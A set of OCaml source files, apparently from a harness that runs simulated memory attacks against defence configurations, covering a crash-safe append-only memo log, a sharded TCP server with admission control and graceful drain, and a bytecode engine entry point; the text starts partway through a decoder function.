          r_detail;
          r_attempts;
          r_cached = flags land 8 <> 0;
          r_violations;
        };
    }
  with
  | e ->
    if c.c_pos <> c.c_end then Error "trailing bytes after memo entry"
    else Ok e
  | exception Short what -> Error (Fmt.str "short field: %s" what)
