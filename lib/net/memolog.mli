(** Append-only on-disk memo cache with per-record CRC and torn-tail
    recovery.

    File layout: an 8-byte magic ["PNAMEMO1"], then records of
    [len u32 | crc32 u32 | payload]. Appends are single whole-record
    writes, so a [kill -9] leaves a valid prefix plus at most one torn
    record; {!open_log} truncates the file at the first bad record and
    the next append lands on a clean boundary. *)

type t

type opened = {
  log : t;  (** positioned for appending *)
  entries : Pna_service.Service.memo_entry list;
      (** valid records, file order *)
  torn_bytes : int;  (** bytes truncated off the tail (0 = clean) *)
}

val open_log : string -> opened
(** Open (creating if absent), recover the valid prefix and truncate any
    torn tail. A file with an unrecognizable header is restarted empty. *)

val append : t -> Pna_service.Service.memo_entry -> unit
(** Append one record in a single write. Thread-safe — the service memo
    sink calls this from worker domains.
    @raise Invalid_argument after {!close}. *)

val close : t -> unit

val compact : string -> int * int
(** Offline compaction: rewrite the log keeping the first record per
    memo key, atomically (write-aside + rename). Returns
    [(kept, dropped)]. Run only while no server has the log open. *)
