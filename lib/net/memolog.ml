(** The on-disk memo cache: an append-only log of
    {!Pna_service.Service.memo_entry} records.

    {v
      file  = magic  record*
      magic = "PNAMEMO1"                      (8 bytes)
      record = len u32 | crc32 u32 | payload  (payload: Frame memo codec)
    v}

    Crash-recovery argument: records are only ever appended and each is
    flushed whole, so after a [kill -9] the file is a valid prefix plus
    at most one torn record. {!open_log} scans from the start, keeps
    every record whose length is sane, CRC matches and payload decodes,
    and {e physically truncates} the file at the first bad one — the
    torn tail is dropped, never served, and the next append lands on a
    clean boundary. A mid-file flipped bit (disk corruption rather than
    a torn write) costs everything from that record on: acceptable for a
    cache, where a lost entry is a recomputation, not an error. *)

module Service = Pna_service.Service

let file_magic = "PNAMEMO1"
let max_record = 1_048_576 (* a sane-length ceiling, far above any entry *)

type t = {
  fd : Unix.file_descr;
  mutex : Mutex.t;  (** appends come from any worker domain *)
  mutable closed : bool;
}

type opened = {
  log : t;
  entries : Service.memo_entry list;  (** valid records, file order *)
  torn_bytes : int;  (** bytes truncated off the tail (0 = clean) *)
}

let le32 v =
  let v = v land 0xffffffff in
  String.init 4 (fun k -> Char.chr ((v lsr (8 * k)) land 0xff))

let rd32 s off =
  Char.code s.[off]
  lor (Char.code s.[off + 1] lsl 8)
  lor (Char.code s.[off + 2] lsl 16)
  lor (Char.code s.[off + 3] lsl 24)

(* Read the longest valid prefix: (entries, valid_length). *)
let scan path =
  match open_in_bin path with
  | exception Sys_error _ -> ([], 0, false)
  | ic ->
    Fun.protect ~finally:(fun () -> close_in_noerr ic) @@ fun () ->
    let file_len = in_channel_length ic in
    let header = Bytes.create (String.length file_magic) in
    (match really_input ic header 0 (Bytes.length header) with
    | () -> ()
    | exception End_of_file -> ());
    if Bytes.to_string header <> file_magic then ([], 0, false)
    else begin
      let entries = ref [] in
      let valid = ref (String.length file_magic) in
      let stop = ref false in
      while not !stop do
        let hdr = Bytes.create 8 in
        match really_input ic hdr 0 8 with
        | exception End_of_file -> stop := true
        | () ->
          let hdr = Bytes.to_string hdr in
          let len = rd32 hdr 0 and crc = rd32 hdr 4 in
          if len < 0 || len > max_record || !valid + 8 + len > file_len then
            stop := true
          else begin
            let payload = Bytes.create len in
            match really_input ic payload 0 len with
            | exception End_of_file -> stop := true
            | () ->
              let payload = Bytes.to_string payload in
              if Crc32.string payload <> crc then stop := true
              else
                (match Frame.decode_memo_entry payload with
                | Error _ -> stop := true
                | Ok e ->
                  entries := e :: !entries;
                  valid := !valid + 8 + len)
          end
      done;
      (List.rev !entries, !valid, true)
    end

let open_log path =
  let entries, valid, had_magic = scan path in
  let fd = Unix.openfile path [ Unix.O_RDWR; Unix.O_CREAT ] 0o644 in
  let torn_bytes =
    if had_magic then begin
      let size = (Unix.fstat fd).Unix.st_size in
      if size > valid then Unix.ftruncate fd valid;
      size - valid
    end
    else begin
      (* new or unrecognizable file: start fresh *)
      let size = (Unix.fstat fd).Unix.st_size in
      Unix.ftruncate fd 0;
      ignore (Unix.lseek fd 0 Unix.SEEK_SET);
      let m = Bytes.of_string file_magic in
      ignore (Unix.write fd m 0 (Bytes.length m));
      size
    end
  in
  ignore (Unix.lseek fd 0 Unix.SEEK_END);
  ({ fd; mutex = Mutex.create (); closed = false }, entries, torn_bytes)
  |> fun (log, entries, torn_bytes) -> { log; entries; torn_bytes }

let write_all fd s =
  let b = Bytes.of_string s in
  let n = Bytes.length b in
  let off = ref 0 in
  while !off < n do
    off := !off + Unix.write fd b !off (n - !off)
  done

let append t entry =
  Mutex.lock t.mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mutex) @@ fun () ->
  if t.closed then invalid_arg "Memolog.append: log is closed";
  let payload = Frame.encode_memo_entry entry in
  (* one write per record: either the whole record lands or the tail is
     torn — recovery handles both *)
  write_all t.fd (le32 (String.length payload) ^ le32 (Crc32.string payload) ^ payload)

let close t =
  Mutex.lock t.mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mutex) @@ fun () ->
  if not t.closed then begin
    t.closed <- true;
    Unix.close t.fd
  end

let entry_key (e : Service.memo_entry) =
  ( e.Service.me_attack,
    e.Service.me_config,
    e.Service.me_chaos_seed,
    e.Service.me_input_hash,
    e.Service.me_sanitize,
    e.Service.me_engine )

(* Offline compaction: drop duplicate keys, keeping the FIRST record per
   key — the in-memory cache is first-writer-wins, so the first record
   is the one that was ever served. The compacted log is written beside
   the original and renamed over it, so a crash mid-compaction leaves
   either the old or the new file, both valid. *)
let compact path =
  let entries, _, _ = scan path in
  let seen = Hashtbl.create 256 in
  let kept =
    List.filter
      (fun e ->
        let k = entry_key e in
        if Hashtbl.mem seen k then false
        else begin
          Hashtbl.add seen k ();
          true
        end)
      entries
  in
  let tmp = path ^ ".compact" in
  let fd = Unix.openfile tmp [ Unix.O_WRONLY; Unix.O_CREAT; Unix.O_TRUNC ] 0o644 in
  write_all fd file_magic;
  List.iter
    (fun e ->
      let payload = Frame.encode_memo_entry e in
      write_all fd
        (le32 (String.length payload) ^ le32 (Crc32.string payload) ^ payload))
    kept;
  Unix.close fd;
  Unix.rename tmp path;
  (List.length kept, List.length entries - List.length kept)
