(** The TCP front end: sharded select-loops in their own domains
    bridging socket I/O to the {!Pna_service.Service} pool.

    [loops] (default 1) select-loop domains share one nonblocking
    listener — accept-fanout: every loop includes the listener in its
    read set and whichever loop wins the [accept] owns that connection
    for its whole life (read, decode, submit, reply). Connection state
    never migrates, so each loop's tables stay domain-private; only the
    admission counters (open connections, in-flight jobs) are shared
    atomics, keeping [max_conns]/[max_inflight] global caps.

    Robustness properties, each load-bearing for the E16 gates:

    - {b No malformed frame crashes or hangs the loop.} Decoding is
      total ({!Frame.decode}), a protocol error answers with
      [Reply_error] and closes the connection after the reply flushes,
      and the idle timeout reaps connections that send a partial frame
      and then nothing — including a frame whose length field promises
      bytes that never arrive.
    - {b Admission control, never queueing without bound.} A request is
      admitted only while in-flight jobs are under [max_inflight] and
      {!Service.try_submit} accepts it; otherwise the client gets an
      immediate [Reply_shed] with a retry-after hint. The accept loop
      itself never blocks on the pool.
    - {b Graceful drain.} [stop] closes the listener, lets in-flight
      jobs finish and replies flush up to a deadline, then force-closes
      stragglers — every termination path is counted.

    The loop never blocks in [select] for long: worker domains fulfil
    futures and poke the self-pipe ({!Pool} [~notify]), so completions
    wake the loop immediately instead of on the next tick. *)

module Service = Pna_service.Service
module Pool = Pna_service.Pool
module Metrics = Pna_telemetry.Metrics
module Trace = Pna_telemetry.Trace
module Switch = Pna_telemetry.Switch
module Clock = Pna_telemetry.Clock
module Jsonx = Pna_telemetry.Jsonx
module Flight = Pna_flight.Flight
module Catalog = Pna_attacks.Catalog
module All = Pna_attacks.All
module Config = Pna_defense.Config

type config = {
  host : string;
  port : int;  (** 0 picks an ephemeral port; read it back with {!port} *)
  loops : int;
      (** select-loop domains sharing the listener (accept-fanout); 1
          recovers the historical single-loop front end *)
  max_inflight : int;  (** admitted-but-unfinished request cap, global *)
  max_conns : int;
  idle_timeout_s : float;
  drain_timeout_s : float;  (** graceful-stop budget *)
  max_steps_cap : int;  (** ceiling clamped onto every request deadline *)
  retry_after_ms : int;  (** hint carried on shed replies *)
  memo_log : string option;  (** persist the memo cache here *)
}

let default_config =
  {
    host = "127.0.0.1";
    port = 0;
    loops = 1;
    max_inflight = 64;
    max_conns = 128;
    idle_timeout_s = 10.;
    drain_timeout_s = 10.;
    max_steps_cap = 2_000_000;
    retry_after_ms = 25;
    memo_log = None;
  }

(* -- per-connection state (loop-domain private) ---------------------- *)

type pending = {
  p_corr : int;
  p_future : Service.reply Pool.future;
  p_t0 : int64;  (** admission timestamp, monotonic ns *)
  p_trace : (int * int * int) option;
      (** (trace id, server span id, client parent span) — set when the
          request carried a trace context and telemetry is on; the
          server's request span is emitted retroactively at reply time *)
}

type conn = {
  fd : Unix.file_descr;
  mutable rbuf : string;  (** undecoded inbound bytes *)
  out : string Queue.t;
  mutable woff : int;  (** bytes of [Queue.peek out] already written *)
  mutable pending : pending list;
  mutable last_activity : float;
  mutable draining : bool;  (** close once pending and out are empty *)
  mutable close_reason : string;
  opened_us : float;  (** accept time on the trace clock *)
}

type t = {
  cfg : config;
  svc : Service.t;
  lsock : Unix.file_descr;
  lsock_closed : bool Atomic.t;
      (** CAS-guarded: exactly one loop closes the shared listener at
          drain time *)
  srv_port : int;
  pipes : (Unix.file_descr * Unix.file_descr) array;
      (** one self-pipe per loop; workers poke the admitting loop's *)
  stop_flag : bool Atomic.t;
  conn_count : int Atomic.t;  (** open connections across all loops *)
  inflight : int Atomic.t;  (** admitted-but-unfinished jobs, all loops *)
  queued_frames : int array;
      (** per-loop count of frames waiting in output queues; each slot is
          written only by its loop, summed for the gauge *)
  reg : Metrics.registry;
  m_accepts : Metrics.counter;
  m_requests : Metrics.counter;
  m_served : Metrics.counter;
  m_shed : Metrics.counter;
  m_internal : Metrics.counter;
  m_request_us : Metrics.histogram;
  m_open_conns : Metrics.gauge;
  m_inflight : Metrics.gauge;
  m_draining : Metrics.gauge;  (** 1 once a graceful stop began *)
  m_queued_replies : Metrics.gauge;  (** frames waiting in output queues *)
  log : Memolog.t option;
  recovered : int;  (** memo entries preloaded from the log *)
  torn_bytes : int;
  dup_entries : int;  (** log entries dropped as duplicates at preload *)
  mutable loop_domains : unit Domain.t list;
}

let port t = t.srv_port
let registry t = t.reg
let recovered t = t.recovered
let torn_bytes t = t.torn_bytes
let dup_entries t = t.dup_entries

(* a full pipe already guarantees a wakeup; a closed one means the
   loop is gone — both are fine to ignore *)
let wake_loop t i =
  try ignore (Unix.write (snd t.pipes.(i)) (Bytes.make 1 '!') 0 1)
  with Unix.Unix_error _ -> ()

let wake t = Array.iteri (fun i _ -> wake_loop t i) t.pipes

(* -- the loop -------------------------------------------------------- *)

let close_counter t reason =
  Metrics.counter t.reg "pna_net_closes_total" ~labels:[ ("reason", reason) ]

let proto_counter t cls =
  Metrics.counter t.reg "pna_net_protocol_errors_total"
    ~labels:[ ("class", cls) ]

let frame_kind = function
  | Frame.Request _ -> "request"
  | Frame.Reply_ok _ -> "ok"
  | Frame.Reply_shed _ -> "shed"
  | Frame.Reply_error _ -> "error"
  | Frame.Ping _ -> "ping"
  | Frame.Pong _ -> "pong"
  | Frame.Stats_req _ -> "stats-req"
  | Frame.Stats_rep _ -> "stats"

let reply_counter t kind =
  Metrics.counter t.reg "pna_net_replies_total" ~labels:[ ("kind", kind) ]

(* Every outbound frame is counted by kind and noted in the flight
   recorder's always-on ring — the "last N frames" a forensic bundle
   replays. *)
let enqueue t c msg =
  Metrics.incr (reply_counter t (frame_kind msg));
  Flight.note ~kind:"frame"
    [ ("dir", Jsonx.Str "out"); ("frame", Jsonx.Str (frame_kind msg)) ];
  Queue.add (Frame.encode msg) c.out

(* The wire answer to a Stats_req: this registry plus the service's,
   rendered as Prometheus text and clamped to one string field. *)
let stats_payload t =
  let s =
    Fmt.str "%a%a" Metrics.pp_prometheus t.reg Service.pp_prometheus t.svc
  in
  if String.length s > Frame.max_str then String.sub s 0 Frame.max_str else s

(* [All.find] also sees dynamically registered scenarios (a generated
   corpus loaded at startup), not just the static paper catalogue. *)
let find_attack id = All.find id

let find_config name =
  List.find_opt (fun (c : Config.t) -> c.Config.name = name) Config.all

let serve t i =
  let pipe_r = fst t.pipes.(i) in
  let conns : (Unix.file_descr, conn) Hashtbl.t = Hashtbl.create 32 in
  (* futures of connections that died before their reply: still polled,
     so the in-flight gauge cannot leak *)
  let orphans = ref [] in
  let accepting = ref true in
  let drain_deadline = ref None in
  let close_conn c reason =
    if Hashtbl.mem conns c.fd then begin
      Hashtbl.remove conns c.fd;
      (try Unix.close c.fd with Unix.Unix_error _ -> ());
      orphans := List.map (fun p -> p.p_future) c.pending @ !orphans;
      c.pending <- [];
      Metrics.incr (close_counter t reason);
      (* per-connection lifecycle span: accept to close *)
      Trace.emit ~cat:"net" ~name:"connection" ~ts_us:c.opened_us
        ~dur_us:(Trace.now_us () -. c.opened_us)
        ~args:[ ("close_reason", Trace.Str reason) ]
        ();
      ignore (Atomic.fetch_and_add t.conn_count (-1));
      Metrics.set t.m_open_conns (float_of_int (Atomic.get t.conn_count))
    end
  in
  let shed c corr =
    Metrics.incr t.m_shed;
    Trace.instant ~cat:"net" "shed" ~args:[ ("corr", Trace.Int corr) ];
    enqueue t c
      (Frame.Reply_shed
         { sh_corr = corr; sh_retry_after_ms = t.cfg.retry_after_ms })
  in
  let handle_request c (rq : Frame.req) =
    Metrics.incr t.m_requests;
    match (find_attack rq.Frame.rq_attack, find_config rq.Frame.rq_config) with
    | None, _ ->
      enqueue t c
        (Frame.Reply_error
           {
             er_corr = rq.Frame.rq_corr;
             er_message = Fmt.str "unknown attack %S" rq.Frame.rq_attack;
           })
    | _, None ->
      enqueue t c
        (Frame.Reply_error
           {
             er_corr = rq.Frame.rq_corr;
             er_message = Fmt.str "unknown config %S" rq.Frame.rq_config;
           })
    | Some attack, Some config ->
      if Atomic.get t.inflight >= t.cfg.max_inflight then
        shed c rq.Frame.rq_corr
      else begin
        (* the request deadline is honored but capped: a client cannot
           buy an unbounded interpreter run *)
        let max_steps =
          match rq.Frame.rq_max_steps with
          | Some s when s >= 1 -> min s t.cfg.max_steps_cap
          | _ -> t.cfg.max_steps_cap
        in
        (* A traced request gets a server-side request span: allocated
           here so the pool can parent its queue-wait/job spans under
           it, emitted retroactively when the reply resolves. *)
        let p_trace =
          match rq.Frame.rq_trace with
          | Some (tid, parent) when Switch.enabled () ->
            Some (tid, Trace.next_span_id (), parent)
          | _ -> None
        in
        let job =
          Service.job ?chaos_seed:rq.Frame.rq_chaos_seed ~max_steps
            ~sanitize:rq.Frame.rq_sanitize ~engine:rq.Frame.rq_engine ~config
            ?trace:(Option.map (fun (tid, sid, _) -> (tid, sid)) p_trace)
            attack
        in
        (* clocked before submission: the queue-wait the pool attributes
           to this job starts inside [try_submit], and the request span
           must enclose it *)
        let p_t0 = Clock.now_ns () in
        match Service.try_submit ~notify:(fun () -> wake_loop t i) t.svc job with
        | None -> shed c rq.Frame.rq_corr
        | Some fut ->
          ignore (Atomic.fetch_and_add t.inflight 1);
          Metrics.set t.m_inflight (float_of_int (Atomic.get t.inflight));
          c.pending <-
            { p_corr = rq.Frame.rq_corr; p_future = fut; p_t0; p_trace }
            :: c.pending
      end
  in
  let decode_inbound c =
    let continue = ref (not c.draining) in
    while !continue do
      match Frame.decode c.rbuf with
      | Frame.Need _ -> continue := false
      | Frame.Msg (msg, used) ->
        c.rbuf <- String.sub c.rbuf used (String.length c.rbuf - used);
        Flight.note ~kind:"frame"
          [ ("dir", Jsonx.Str "in"); ("frame", Jsonx.Str (frame_kind msg)) ];
        (match msg with
        | Frame.Request rq -> handle_request c rq
        | Frame.Ping n -> enqueue t c (Frame.Pong n)
        | Frame.Stats_req n ->
          enqueue t c
            (Frame.Stats_rep { st_nonce = n; st_payload = stats_payload t })
        | Frame.Reply_ok _ | Frame.Reply_shed _ | Frame.Reply_error _
        | Frame.Pong _ | Frame.Stats_rep _ ->
          (* well-formed but nonsensical from a client: answer, then
             hang up — misdirected traffic is not a crash *)
          Metrics.incr (proto_counter t "unexpected-kind");
          enqueue t c
            (Frame.Reply_error
               { er_corr = 0; er_message = "unexpected frame kind" });
          c.draining <- true;
          c.close_reason <- "protocol-error";
          continue := false)
      | Frame.Fail e ->
        Metrics.incr (proto_counter t (Frame.error_class e));
        enqueue t c
          (Frame.Reply_error
             { er_corr = 0; er_message = Fmt.str "%a" Frame.pp_error e });
        (* no resync attempt: the stream is poisoned, drop it *)
        c.rbuf <- "";
        c.draining <- true;
        c.close_reason <- "protocol-error";
        continue := false
    done
  in
  let poll_pending c =
    let still = ref [] in
    List.iter
      (fun p ->
        match Pool.peek p.p_future with
        | None -> still := p :: !still
        | Some r ->
          ignore (Atomic.fetch_and_add t.inflight (-1));
          Metrics.set t.m_inflight (float_of_int (Atomic.get t.inflight));
          let dur_us = Clock.elapsed_us ~a:p.p_t0 ~b:(Clock.now_ns ()) in
          (* the server-side request span, closed at reply time: queue
             wait + execution + the loop's own polling latency *)
          (match p.p_trace with
          | Some (tid, sid, parent) ->
            Trace.emit ~cat:"net" ~name:"request"
              ~ts_us:(Trace.us_of_ns p.p_t0) ~dur_us ~trace:(tid, sid, parent)
              ~args:[ ("corr", Trace.Int p.p_corr) ]
              ()
          | None -> ());
          (match r with
          | Ok reply ->
            Metrics.incr t.m_served;
            Metrics.observe t.m_request_us dur_us;
            enqueue t c
              (Frame.Reply_ok
                 { (Frame.rep_of_reply reply) with Frame.rp_corr = p.p_corr })
          | Error exn ->
            (* the driver classifies everything it can; an exception here
               is genuinely internal, and still answered *)
            Metrics.incr t.m_internal;
            enqueue t c
              (Frame.Reply_error
                 {
                   er_corr = p.p_corr;
                   er_message =
                     Fmt.str "internal: %s" (Printexc.to_string exn);
                 })))
      c.pending;
    c.pending <- !still
  in
  let flush_out c =
    try
      let progress = ref true in
      while (not (Queue.is_empty c.out)) && !progress do
        let head = Queue.peek c.out in
        let n =
          Unix.write c.fd
            (Bytes.unsafe_of_string head)
            c.woff
            (String.length head - c.woff)
        in
        c.woff <- c.woff + n;
        if c.woff >= String.length head then begin
          ignore (Queue.pop c.out);
          c.woff <- 0
        end
        else progress := false
      done
    with
    | Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) ->
      ()
    | Unix.Unix_error _ -> close_conn c "reset"
  in
  let accept_ready () =
    let continue = ref true in
    while !continue do
      match Unix.accept ~cloexec:true t.lsock with
      | fd, _ ->
        Unix.set_nonblock fd;
        (try Unix.setsockopt fd Unix.TCP_NODELAY true
         with Unix.Unix_error _ -> ());
        Metrics.incr t.m_accepts;
        Trace.instant ~cat:"net" "accept";
        Hashtbl.replace conns fd
          {
            fd;
            rbuf = "";
            out = Queue.create ();
            woff = 0;
            pending = [];
            last_activity = Unix.gettimeofday ();
            draining = false;
            close_reason = "eof";
            opened_us = Trace.now_us ();
          };
        ignore (Atomic.fetch_and_add t.conn_count 1);
        Metrics.set t.m_open_conns (float_of_int (Atomic.get t.conn_count));
        if Atomic.get t.conn_count >= t.cfg.max_conns then continue := false
      | exception
          Unix.Unix_error
            ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR | Unix.ECONNABORTED), _, _)
        ->
        (* EAGAIN includes losing the accept race to a sibling loop —
           the listener is shared, whoever wins owns the connection *)
        continue := false
      | exception
          Unix.Unix_error
            ((Unix.EBADF | Unix.EINVAL | Unix.ENOTSOCK | Unix.EMFILE | Unix.ENFILE), _, _)
        ->
        (* EBADF/EINVAL/ENOTSOCK: the listener was closed (drain) and
           possibly reused under us; EMFILE/ENFILE: out of descriptors —
           back off, existing connections still progress *)
        continue := false
    done
  in
  let read_ready c =
    let buf = Bytes.create 65536 in
    match Unix.read c.fd buf 0 (Bytes.length buf) with
    | 0 ->
      (* peer finished sending; serve what is pending, then close *)
      if c.pending = [] && Queue.is_empty c.out then close_conn c "eof"
      else begin
        c.draining <- true;
        c.close_reason <- "eof"
      end
    | n ->
      c.last_activity <- Unix.gettimeofday ();
      c.rbuf <- c.rbuf ^ Bytes.sub_string buf 0 n;
      decode_inbound c
    | exception
        Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _)
      ->
      ()
    | exception Unix.Unix_error _ -> close_conn c "reset"
  in
  let running = ref true in
  while !running do
    (* drain the wake pipe *)
    (try
       let b = Bytes.create 64 in
       while Unix.read pipe_r b 0 64 > 0 do
         ()
       done
     with Unix.Unix_error _ -> ());
    if Atomic.get t.stop_flag && !drain_deadline = None then begin
      accepting := false;
      Metrics.set t.m_draining 1.;
      (* one loop closes the shared listener; the others just stop
         selecting on it *)
      if Atomic.compare_and_set t.lsock_closed false true then
        (try Unix.close t.lsock with Unix.Unix_error _ -> ());
      drain_deadline :=
        Some (Unix.gettimeofday () +. t.cfg.drain_timeout_s);
      (* no new requests from open connections either *)
      Hashtbl.iter (fun _ c -> c.draining <- true;
                     if c.close_reason = "eof" then c.close_reason <- "drain")
        conns
    end;
    let now = Unix.gettimeofday () in
    (* reap idle connections: covers partial frames whose promised bytes
       never arrive *)
    let idle =
      Hashtbl.fold
        (fun _ c acc ->
          if
            c.pending = []
            && Queue.is_empty c.out
            && now -. c.last_activity > t.cfg.idle_timeout_s
          then c :: acc
          else acc)
        conns []
    in
    List.iter (fun c -> close_conn c "idle") idle;
    (* completions and flushes *)
    Hashtbl.iter (fun _ c -> if c.pending <> [] then poll_pending c) conns;
    Hashtbl.iter (fun _ c -> if not (Queue.is_empty c.out) then flush_out c) conns;
    (* this loop's slot, then the gauge over all slots — each slot has a
       single writer, so the sum is at worst one tick stale *)
    t.queued_frames.(i) <-
      Hashtbl.fold (fun _ c acc -> acc + Queue.length c.out) conns 0;
    Metrics.set t.m_queued_replies
      (float_of_int (Array.fold_left ( + ) 0 t.queued_frames));
    let finished =
      Hashtbl.fold
        (fun _ c acc ->
          if c.draining && c.pending = [] && Queue.is_empty c.out then c :: acc
          else acc)
        conns []
    in
    List.iter (fun c -> close_conn c c.close_reason) finished;
    orphans :=
      List.filter
        (fun fut ->
          match Pool.peek fut with
          | None -> true
          | Some _ ->
            ignore (Atomic.fetch_and_add t.inflight (-1));
            Metrics.set t.m_inflight (float_of_int (Atomic.get t.inflight));
            false)
        !orphans;
    (* drain exit waits on the *global* in-flight count: sibling loops
       quiesce together, so no worker ever fulfils into a dead pool *)
    (match !drain_deadline with
    | Some d
      when Hashtbl.length conns = 0 && !orphans = []
           && Atomic.get t.inflight = 0 ->
      ignore d;
      running := false
    | Some d when Unix.gettimeofday () > d ->
      (* deadline passed: force-close stragglers, but keep the loop until
         orphaned jobs finish *)
      Hashtbl.fold (fun _ c acc -> c :: acc) conns []
      |> List.iter (fun c -> close_conn c "drain-forced");
      if !orphans = [] && Atomic.get t.inflight = 0 then running := false
    | _ -> ());
    if !running then begin
      let rds =
        pipe_r
        :: (if !accepting && Atomic.get t.conn_count < t.cfg.max_conns then
              [ t.lsock ]
            else [])
        @ Hashtbl.fold
            (fun fd c acc -> if c.draining then acc else fd :: acc)
            conns []
      in
      let wrs =
        Hashtbl.fold
          (fun fd c acc -> if Queue.is_empty c.out then acc else fd :: acc)
          conns []
      in
      match Unix.select rds wrs [] 0.05 with
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
      | exception Unix.Unix_error (Unix.EBADF, _, _) -> ()
      | rready, wready, _ ->
        if !accepting && List.mem t.lsock rready then accept_ready ();
        List.iter
          (fun fd ->
            match Hashtbl.find_opt conns fd with
            | Some c -> read_ready c
            | None -> ())
          rready;
        List.iter
          (fun fd ->
            match Hashtbl.find_opt conns fd with
            | Some c -> flush_out c
            | None -> ())
          wready
    end
  done;
  (* loop exit: everything this loop owned is closed and accounted *)
  (try Unix.close pipe_r with Unix.Unix_error _ -> ());
  (try Unix.close (snd t.pipes.(i)) with Unix.Unix_error _ -> ())

(* -- lifecycle ------------------------------------------------------- *)

let start ?(config = default_config) svc =
  (* a peer that resets mid-reply must surface as EPIPE on the write,
     not as a process-killing SIGPIPE *)
  (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore with Invalid_argument _ -> ());
  let lsock = Unix.socket ~cloexec:true Unix.PF_INET Unix.SOCK_STREAM 0 in
  Unix.setsockopt lsock Unix.SO_REUSEADDR true;
  Unix.bind lsock
    (Unix.ADDR_INET (Unix.inet_addr_of_string config.host, config.port));
  Unix.listen lsock 128;
  Unix.set_nonblock lsock;
  let srv_port =
    match Unix.getsockname lsock with
    | Unix.ADDR_INET (_, p) -> p
    | _ -> config.port
  in
  let loops = max 1 config.loops in
  let pipes =
    Array.init loops (fun _ ->
        let pipe_r, pipe_w = Unix.pipe ~cloexec:true () in
        Unix.set_nonblock pipe_r;
        Unix.set_nonblock pipe_w;
        (pipe_r, pipe_w))
  in
  let log, recovered, torn_bytes, dup_entries =
    match config.memo_log with
    | None -> (None, 0, 0, 0)
    | Some path ->
      let o = Memolog.open_log path in
      let loaded = Service.preload_memo svc o.Memolog.entries in
      Service.set_memo_sink svc (Some (Memolog.append o.Memolog.log));
      ( Some o.Memolog.log,
        loaded,
        o.Memolog.torn_bytes,
        List.length o.Memolog.entries - loaded )
  in
  let reg = Metrics.create () in
  (* Memo-recovery facts as gauges, so a scrape sees what the startup
     log line said: entries recovered, bytes truncated at the torn
     tail, and duplicates a compaction would save. *)
  if config.memo_log <> None then begin
    Metrics.set (Metrics.gauge reg "pna_net_memo_recovered_entries")
      (float_of_int recovered);
    Metrics.set (Metrics.gauge reg "pna_net_memo_torn_bytes")
      (float_of_int torn_bytes);
    Metrics.set (Metrics.gauge reg "pna_net_memo_dup_entries")
      (float_of_int dup_entries)
  end;
  let t =
    {
      cfg = config;
      svc;
      lsock;
      lsock_closed = Atomic.make false;
      srv_port;
      pipes;
      stop_flag = Atomic.make false;
      conn_count = Atomic.make 0;
      inflight = Atomic.make 0;
      queued_frames = Array.make loops 0;
      reg;
      m_accepts = Metrics.counter reg "pna_net_accepts_total";
      m_requests = Metrics.counter reg "pna_net_requests_total";
      m_served = Metrics.counter reg "pna_net_served_total";
      m_shed = Metrics.counter reg "pna_net_shed_total";
      m_internal = Metrics.counter reg "pna_net_internal_errors_total";
      m_request_us = Metrics.histogram reg "pna_net_request_us";
      m_open_conns = Metrics.gauge reg "pna_net_open_conns";
      m_inflight = Metrics.gauge reg "pna_net_inflight";
      m_draining = Metrics.gauge reg "pna_net_draining";
      m_queued_replies = Metrics.gauge reg "pna_net_queued_replies";
      log;
      recovered;
      torn_bytes;
      dup_entries;
      loop_domains = [];
    }
  in
  t.loop_domains <-
    List.init loops (fun i -> Domain.spawn (fun () -> serve t i));
  t

let stop t =
  Atomic.set t.stop_flag true;
  wake t;
  List.iter Domain.join t.loop_domains;
  t.loop_domains <- [];
  (match t.log with
  | Some log ->
    Service.set_memo_sink t.svc None;
    Memolog.close log
  | None -> ())
