(** Bytecode engine entry points: {!Interp.run}/{!Interp.execute}'s exact
    contract, driven by compiled units instead of the AST. Outcomes, step
    counts, events and taint are byte-identical to the interpreter (gated
    by E19); telemetry spans carry [cat:"vm"]. *)

val load : Ast.program -> Compile.t
(** Fetch (or compile) the unit for a program, under a [cat:"vm"] "load"
    span. Units are cached by physical program identity. *)

val run :
  ?max_steps:int ->
  ?max_depth:int ->
  ?on_stmt:(string -> Ast.stmt -> unit) ->
  ?on_tick:(int -> unit) ->
  Pna_machine.Machine.t ->
  Compile.t ->
  entry:string ->
  Outcome.t
(** Execute [entry] from a compiled unit. Never raises; defaults match
    {!Interp.run} (2,000,000 steps, depth 256). *)

val execute :
  ?heap_size:int ->
  ?max_steps:int ->
  ?max_depth:int ->
  ?on_stmt:(string -> Ast.stmt -> unit) ->
  ?on_tick:(int -> unit) ->
  config:Pna_defense.Config.t ->
  ?input_ints:int list ->
  ?input_strings:string list ->
  ?entry:string ->
  Ast.program ->
  Outcome.t
(** [Interp.load] + set input + compile + {!run} in one call, with the
    same load-failure classification as {!Interp.execute}. *)
