(** The bytecode engine's front door: run a compiled unit ({!Compile.t})
    over a process image with exactly {!Interp.run}'s contract — same
    outcome classification, same step accounting, same events. Telemetry
    spans carry [cat:"vm"] so traces show which engine executed. *)

module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module Heap = Pna_machine.Heap
module Fault = Pna_vmem.Fault

let load prog =
  Pna_telemetry.Trace.with_span ~cat:"vm" "load" @@ fun () ->
  Compile.cached prog

let run ?(max_steps = 2_000_000) ?(max_depth = 256) ?on_stmt ?on_tick m
    (u : Compile.t) ~entry =
  let rt = Compile.make_rt ~max_steps ~max_depth ?on_stmt ?on_tick m u in
  Pna_telemetry.Trace.with_span ~cat:"vm"
    ~args:[ ("entry", Pna_telemetry.Trace.Str entry) ]
    "run"
  @@ fun () ->
  let status =
    try
      match Hashtbl.find_opt u.Compile.u_index entry with
      | None -> Outcome.Crashed (Fmt.str "no entry point %s" entry)
      | Some fi -> (
        match
          Compile.vinvoke rt ~caller:(Array.length u.Compile.u_funcs) fi []
        with
        | Some v -> Outcome.Exited (Value.as_int v)
        | None -> Outcome.Exited 0)
    with
    | Interp.Halt s -> s
    | Event.Security_stop e -> (
      match e with
      | Event.Canary_smashed _ -> Outcome.Stack_smashing_detected
      | Event.Out_of_memory _ -> Outcome.Out_of_memory
      | Event.Nx_blocked _ -> Outcome.Defense_blocked "nx-stack"
